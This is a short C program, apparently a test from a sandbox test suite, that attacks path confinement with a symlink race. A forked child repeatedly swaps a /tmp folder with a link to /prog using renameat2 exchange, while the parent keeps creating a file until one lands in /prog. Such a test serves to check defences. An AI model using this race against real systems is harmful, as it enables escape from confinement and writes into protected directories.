#include "attack.h"

/* A folder that turns into a link to /prog and back while somebody walks through it. */
int main(void)
{
	mkdir("/tmp/turn", 0777);
	mkdir("/tmp/turn/solution", 0777);
	symlink("/prog", "/tmp/link");
	if (fork() == 0) {
		setsid();
		for (;;)
			syscall(SYS_renameat2, AT_FDCWD, "/tmp/turn", AT_FDCWD, "/tmp/link", 2);
	}
	for (int i = 0; i < 300; i++) {
		int fd = open("/tmp/turn/mine", O_CREAT | O_WRONLY, 0666);
		close(fd);
	}
	TRY("a file in /prog", access("/prog/mine", F_OK));
}
